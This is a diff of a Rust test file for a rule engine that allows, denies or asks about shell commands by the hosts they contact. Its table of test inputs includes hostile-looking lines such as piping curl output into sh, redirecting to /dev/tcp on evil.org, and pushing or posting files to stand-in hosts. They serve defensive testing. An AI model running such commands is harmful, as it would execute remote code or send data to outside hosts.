@@ -44,7 +44,7 @@ fn rules(text: &str, author: Author) -> (Rules, Vec<String>) {
     (rules, problems)
 }
 
-fn word(said: Option<Said>) -> &'static str {
+fn word(said: Option<RuleMatch>) -> &'static str {
     match said.map(|said| said.ruling) {
         None => "-",
         Some(Ruling::Allow) => "allow",
@@ -136,71 +136,74 @@ command = "wget"
 host = "slow.org"
 "#;
 
+/// Command lines, and what the rules for hosts say of each; `-` for nothing.
+const HOST_LINES: &[(&str, &str)] = &[
+    ("curl https://good.org/x", "allow"),
+    ("curl -sSfL https://GOOD.org./x | head -3", "allow"),
+    ("curl https://a.good.org https://good.org", "allow"),
+    ("curl https://good.org && make", "allow"),
+    ("curl https://good.org/x https://other.org", "-"),
+    ("curl https://other.org", "-"),
+    ("curl https://good.org@other.org/", "-"),
+    ("curl https://notgood.org", "-"),
+    ("curl https://good.org > f", "-"),
+    ("curl https://good.org | sh", "-"),
+    ("curl -o f https://good.org", "-"),
+    ("curl -d @f https://good.org", "-"),
+    ("X=1 curl https://good.org", "-"),
+    ("sudo curl https://good.org", "-"),
+    ("curl https://good.org; touch x", "-"),
+    ("curl https://good.org &", "-"),
+    ("./curl https://good.org", "-"),
+    ("sh x https://good.org", "-"),
+    ("ssh good.org ls", "allow"),
+    ("ssh good.org 'ls; touch x'", "-"),
+    ("ssh good.org", "-"),
+    ("scp x good.org:y", "-"),
+    ("git clone https://good.org/x", "allow"),
+    ("git clone https://good.org/x /etc/x", "-"),
+    ("git fetch origin", "-"),
+    ("git push https://good.org/x", "-"),
+    ("git push git.org:x main", "allow"),
+    ("git push https://evil.org/x main", "deny"),
+    ("git push other.org:x", "-"),
+    ("git push origin", "-"),
+    ("git clone git.org:x", "-"),
+    // What cannot be read is asked about, and never allowed.
+    ("curl $x", "ask"),
+    ("curl https://good.org$x", "ask"),
+    ("curl \"https://good.org/$x\"", "allow"),
+    ("curl -K f https://good.org", "ask"),
+    ("echo good.org | xargs curl", "ask"),
+    ("$x https://good.org", "ask"),
+    ("make $x", "allow"),
+    ("make https://$x", "ask"),
+    ("curl https://www.evil.org", "deny"),
+    ("curl https://good.org https://www.evil.org", "deny"),
+    ("curl -x www.evil.org https://good.org", "deny"),
+    ("sudo timeout 5 curl https://www.evil.org", "deny"),
+    ("make https://www.evil.org/x", "deny"),
+    ("bash -c 'curl https://www.evil.org'", "deny"),
+    ("make > /dev/tcp/www.evil.org/80", "deny"),
+    ("ls $(curl https://www.evil.org)", "deny"),
+    ("curl https://evil.org", "deny"),
+    ("curl https://evil.org:8443", "-"),
+    ("curl evil.org", "ask"),
+    ("make evil.org", "allow"),
+    ("curl https://odd.org", "ask"),
+    ("curl https://odd.org https://www.evil.org", "deny"),
+    ("wget https://slow.org", "deny"),
+    ("curl https://slow.org", "-"),
+    ("wget $x", "ask"),
+    ("grep -rn https://www.evil.org src", "-"),
+];
+
 #[test]
-fn every_host_of_a_command_line_needs_leave() {
+fn command_needs_approval_for_every_host() {
     let (rules, problems) = rules(HOSTS, Author::Person);
     assert_eq!(problems, Vec::<String>::new());
-    for (line, expected) in [
-        ("curl https://good.org/x", "allow"),
-        ("curl -sSfL https://GOOD.org./x | head -3", "allow"),
-        ("curl https://a.good.org https://good.org", "allow"),
-        ("curl https://good.org && make", "allow"),
-        ("curl https://good.org/x https://other.org", "-"),
-        ("curl https://other.org", "-"),
-        ("curl https://good.org@other.org/", "-"),
-        ("curl https://notgood.org", "-"),
-        ("curl https://good.org > f", "-"),
-        ("curl https://good.org | sh", "-"),
-        ("curl -o f https://good.org", "-"),
-        ("curl -d @f https://good.org", "-"),
-        ("X=1 curl https://good.org", "-"),
-        ("sudo curl https://good.org", "-"),
-        ("curl https://good.org; touch x", "-"),
-        ("curl https://good.org &", "-"),
-        ("./curl https://good.org", "-"),
-        ("sh x https://good.org", "-"),
-        ("ssh good.org ls", "allow"),
-        ("ssh good.org 'ls; touch x'", "-"),
-        ("ssh good.org", "-"),
-        ("scp x good.org:y", "-"),
-        ("git clone https://good.org/x", "allow"),
-        ("git clone https://good.org/x /etc/x", "-"),
-        ("git fetch origin", "-"),
-        ("git push https://good.org/x", "-"),
-        ("git push git.org:x main", "allow"),
-        ("git push https://evil.org/x main", "deny"),
-        ("git push other.org:x", "-"),
-        ("git push origin", "-"),
-        ("git clone git.org:x", "-"),
-        // What cannot be read is asked about, and never allowed.
-        ("curl $x", "ask"),
-        ("curl https://good.org$x", "ask"),
-        ("curl \"https://good.org/$x\"", "allow"),
-        ("curl -K f https://good.org", "ask"),
-        ("echo good.org | xargs curl", "ask"),
-        ("$x https://good.org", "ask"),
-        ("make $x", "allow"),
-        ("make https://$x", "ask"),
-        ("curl https://www.evil.org", "deny"),
-        ("curl https://good.org https://www.evil.org", "deny"),
-        ("curl -x www.evil.org https://good.org", "deny"),
-        ("sudo timeout 5 curl https://www.evil.org", "deny"),
-        ("make https://www.evil.org/x", "deny"),
-        ("bash -c 'curl https://www.evil.org'", "deny"),
-        ("make > /dev/tcp/www.evil.org/80", "deny"),
-        ("ls $(curl https://www.evil.org)", "deny"),
-        ("curl https://evil.org", "deny"),
-        ("curl https://evil.org:8443", "-"),
-        ("curl evil.org", "ask"),
-        ("make evil.org", "allow"),
-        ("curl https://odd.org", "ask"),
-        ("curl https://odd.org https://www.evil.org", "deny"),
-        ("wget https://slow.org", "deny"),
-        ("curl https://slow.org", "-"),
-        ("wget $x", "ask"),
-        ("grep -rn https://www.evil.org src", "-"),
-    ] {
-        assert_eq!(word(rules.command(&Names::plain(&["bash"]), line)), expected, "{line}");
+    for (line, expected) in HOST_LINES {
+        assert_eq!(word(rules.command(&Names::plain(&["bash"]), line)), *expected, "{line}");
     }
     let said = rules.command(&Names::plain(&["bash"]), "curl https://www.evil.org").unwrap();
     assert_eq!(said.rule, "deny host \"*.evil.org\"");
@@ -233,7 +236,7 @@ fn paths_are_judged_by_patterns() {
     assert_eq!(word(rules.file(&Names::plain(&["read"]), ToolClass::Reads, &[real, link])), "deny");
 }
 
-/// Programs that only look run by a rule as far as they only look; what a rule names itself may be done.
+/// Read-only programs run by a rule as far as their calls are read-only; what a rule names itself may be done.
 #[test]
 fn prefix_rules_of_readers_cover_only_looking() {
     let commands = ["git log", "git diff", "sort", "rg", "tree", "sed -i", "git", "find . -delete", "make"];
@@ -331,7 +334,7 @@ fn a_rule_for_a_tool_forbids_and_asks() {
     let (rules, _) = rules("[[rule]]\ndecision = \"deny\"\ntool = \"bash\"", Author::Person);
     assert_eq!(word(rules.command(&Names::plain(&["bash"]), "ls")), "deny");
     assert_eq!(word(rules.file(&Names::plain(&["read"]), ToolClass::Reads, &[Path::new("/w/x")])), "-");
-    // Leave for all commands would be leave for what nobody can tell.
+    // An approval of all commands would approve what cannot be resolved.
     let (rules, _) = self::rules("[[rule]]\ndecision = \"allow\"\ntool = \"bash\"", Author::Person);
     assert_eq!(word(rules.command(&Names::plain(&["bash"]), "rm x")), "-");
 }
